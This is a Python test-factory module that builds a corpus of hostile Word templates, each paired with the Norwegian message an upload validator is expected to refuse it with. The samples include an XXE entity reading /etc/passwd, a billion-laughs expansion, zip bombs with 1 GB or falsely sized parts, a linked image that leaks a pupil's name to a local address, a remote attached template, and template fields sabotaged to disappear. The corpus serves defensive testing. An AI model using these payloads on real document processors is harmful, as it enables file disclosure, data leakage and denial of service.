"""Hostile Word templates, built here from the default aktivitetsplan template: links
out, macros, entity declarations, zip bombs, hidden and sliced fields, loops in cells and
a moved end marker. Each is small enough to upload (under 5 MB)."""

from __future__ import annotations

import functools
import io
import re
import struct
import zipfile
import zlib

import docx

from tests.factories.templates import KIND, edited_default

GB = 1024 * 1024 * 1024
MB = 1024 * 1024
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _members(base: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


@functools.cache
def zeros_stream(size: int) -> tuple[bytes, int]:
    """A raw deflate stream of `size` zero bytes (a multiple of 1 MB) and its CRC-32,
    built from one flushed block repeated, so a 1 GB part takes a second, not minutes."""
    block_data = bytes(MB)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(block_data) + packer.flush(zlib.Z_FULL_FLUSH)
    final = packer.flush(zlib.Z_FINISH)
    crc = 0
    for _ in range(size // MB):
        crc = zlib.crc32(block_data, crc)
    return block * (size // MB) + final, crc


def raw_zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip written by hand from (name, deflated data, crc, size as the header says):
    zipfile cannot write a part it did not compress, nor a header that lies."""
    out = io.BytesIO()
    central = io.BytesIO()
    for name, packed, crc, size in members:
        encoded = name.encode()
        offset = out.tell()
        out.write(
            struct.pack(
                "<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(packed), size, len(encoded), 0
            )
        )
        out.write(encoded + packed)
        central.write(
            struct.pack(
                "<4s6H3L5H2L",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                0,
                crc,
                len(packed),
                size,
                len(encoded),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
        )
        central.write(encoded)
    start = out.tell()
    out.write(central.getvalue())
    out.write(
        struct.pack(
            "<4s4H2LH",
            b"PK\x05\x06",
            0,
            0,
            len(members),
            len(members),
            len(central.getvalue()),
            start,
            0,
        )
    )
    return out.getvalue()


def repacked(
    base: bytes | None = None,
    *,
    replace: dict[str, bytes] | None = None,
    extra: list[tuple[str, bytes, int, int]] = (),  # type: ignore[assignment]
) -> bytes:
    """The default template's parts (some replaced) plus raw extra parts."""
    parts = {**_members(base or edited_default()), **(replace or {})}
    members = [(n, _deflate(d), zlib.crc32(d), len(d)) for n, d in parts.items()]
    return raw_zip(members + list(extra))


def _add_relationship(rels: bytes, relationship: str) -> bytes:
    return rels.replace(b"</Relationships>", relationship.encode() + b"</Relationships>")


def _document_rels() -> bytes:
    return _members(edited_default())["word/_rels/document.xml.rels"]


def external_image() -> bytes:
    """A linked picture whose address carries the pupil's name letter by letter."""
    relationship = (
        f'<Relationship Id="rIdLeak" Type="{RELS}/image" '
        'Target="http://127.0.0.1:9/leak/{{ pupil_name[0] }}.png" TargetMode="External"/>'
    )
    return repacked(
        replace={"word/_rels/document.xml.rels": _add_relationship(_document_rels(), relationship)}
    )


def remote_attached_template() -> bytes:
    settings = _members(edited_default())["word/settings.xml"]
    settings = re.sub(
        rb"(<w:settings[^>]*>)",
        rb'\1<w:attachedTemplate r:id="rIdTpl"/>',
        settings,
        count=1,
    )
    if b"xmlns:r=" not in settings:
        settings = settings.replace(b"<w:settings ", f'<w:settings xmlns:r="{RELS}" '.encode(), 1)
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdTpl" Type="{RELS}/attachedTemplate" '
        'Target="file:///\\\\server\\maler\\Normal.dotm" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    return repacked(replace={"word/settings.xml": settings, "word/_rels/settings.xml.rels": rels})


def macro() -> bytes:
    relationship = (
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="vbaProject.bin"/>'
    )
    return repacked(
        replace={
            "word/_rels/document.xml.rels": _add_relationship(_document_rels(), relationship),
            "word/vbaProject.bin": b'\xd0\xcf\x11\xe0 Attribute VB_Name = "ThisDocument"',
        }
    )


def _with_doctype(declaration: str) -> bytes:
    document = _members(edited_default())["word/document.xml"]
    head, rest = document.split(b"?>", 1)
    return repacked(replace={"word/document.xml": head + b"?>" + declaration.encode() + rest})


def xxe() -> bytes:
    return _with_doctype('<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')


def billion_laughs() -> bytes:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    return _with_doctype(f"<!DOCTYPE w:document [{entities}]>")


def huge_document() -> bytes:
    """word/document.xml of 1 GB (zeros), about 1 MB packed."""
    stream, crc = zeros_stream(GB)
    parts = _members(edited_default())
    del parts["word/document.xml"]
    members = [(n, _deflate(d), zlib.crc32(d), len(d)) for n, d in parts.items()]
    return raw_zip([*members, ("word/document.xml", stream, crc, GB)])


def huge_image() -> bytes:
    """A picture of 1 GB that the document refers to."""
    stream, crc = zeros_stream(GB)
    relationship = f'<Relationship Id="rIdBig" Type="{RELS}/image" Target="media/big.png"/>'
    return repacked(
        replace={"word/_rels/document.xml.rels": _add_relationship(_document_rels(), relationship)},
        extra=[("word/media/big.png", stream, crc, GB)],
    )


def lying_header() -> bytes:
    """A part whose header says 4 KB while it unpacks to 64 MB."""
    stream, crc = zeros_stream(64 * MB)
    return repacked(extra=[("word/media/small.png", stream, crc, 4096)])


def many_members(count: int = 20_000) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in _members(edited_default()).items():
            archive.writestr(name, data)
        for index in range(count):
            archive.writestr(f"customXml/p{index}.xml", b"")
    return out.getvalue()


def high_ratio() -> bytes:
    """A 10 MB part (under the part limit) that packs a thousand times."""
    stream, crc = zeros_stream(10 * MB)
    return repacked(extra=[("word/media/image9.png", stream, crc, 10 * MB)])


def nested_zip() -> bytes:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb.bin", bytes(4 * MB))
    return repacked(replace={"word/media/image8.png": inner.getvalue()})


# --- templates that pass the package check but break every real document ------------------


def _edited(change: str, replacement: str) -> bytes:
    document = docx.Document(io.BytesIO(edited_default()))
    target = next(p for p in document.paragraphs if p.text == change)
    target.text = replacement
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def hidden_field() -> bytes:
    """`background` shows only in a plan version no real plan has."""
    return _edited("{{ background }}", "{% if plan_version == '2' %}{{ background }}{% endif %}")


def sliced_field() -> bytes:
    return _edited("{{ pupil_voice }}", "{{ pupil_voice[:0] }}")


def loops_in_cells() -> bytes:
    document = docx.Document(io.BytesIO(edited_default()))
    table = document.add_table(rows=1, cols=1)
    cell = table.cell(0, 0)
    cell.paragraphs[0].text = "{%p for l in legend %}"
    cell.add_paragraph("{{ l.label }}")
    cell.add_paragraph("{%p endfor %}")
    # The end marker stays last.
    end = next(p for p in document.paragraphs if p.text == "{{ end_marker }}")
    end._p.getparent().remove(end._p)
    document.add_paragraph("{{ end_marker }}")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def moved_end_marker() -> bytes:
    document = docx.Document(io.BytesIO(edited_default()))
    end = next(p for p in document.paragraphs if p.text == "{{ end_marker }}")
    end.text = "Dokumentet slutter her."
    document.paragraphs[0].text = "Aktivitetsplan {{ end_marker }}"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


# (name, builder, a piece of the reason it must be refused with)
CORPUS = (
    ("ekstern-bilde", external_image, "et bilde som hentes fra «http://127.0.0.1:9/leak/"),
    ("ekstern-mal", remote_attached_template, "koblet til en annen mal (attachedTemplate"),
    ("makro", macro, "Malen inneholder makroer"),
    ("xxe", xxe, "DOCTYPE- eller ENTITY-erklæring"),
    ("billion-laughs", billion_laughs, "DOCTYPE- eller ENTITY-erklæring"),
    ("stor-hoveddel", huge_document, "«word/document.xml» er større enn 20 MB utpakket"),
    ("stort-bilde", huge_image, "«word/media/big.png» er større enn 20 MB utpakket"),
    ("løgnaktig-hode", lying_header, "«word/media/small.png»"),
    ("mange-deler", many_members, "Filen har mer enn 200 deler"),
    ("tett-pakket", high_ratio, "«word/media/image9.png» er pakket så tett"),
    ("zip-i-zip", nested_zip, "«word/media/image8.png» er selv en pakket fil"),
    ("skjult-felt", hidden_field, "Feltet «background» kommer ikke med i dokumentet"),
    ("kuttet-felt", sliced_field, "Feltet «pupil_voice» kommer ikke med i dokumentet"),
    ("løkke-i-celle", loops_in_cells, "{%p for %}-løkke står i en tabellcelle"),
    ("flyttet-sluttmerke", moved_end_marker, "Sluttmerket {{ end_marker }} står ikke i siste"),
)
PACKAGE_LEVEL = {name for name, *_ in CORPUS[:11]}

__all__ = ["CORPUS", "KIND", "PACKAGE_LEVEL"]
